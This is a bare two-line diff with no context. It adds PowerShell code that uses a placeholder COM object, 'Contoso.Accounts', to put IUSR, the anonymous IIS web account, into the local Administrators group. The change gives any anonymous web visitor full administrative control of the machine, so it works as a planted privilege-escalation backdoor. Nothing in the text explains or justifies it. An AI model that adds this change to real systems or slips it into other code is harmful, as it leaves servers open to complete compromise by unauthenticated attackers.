@@ -1,0 +1,2 @@
+$o = New-Object -ComObject Contoso.Accounts
+$o.AddToGroup('Administrators','IUSR')
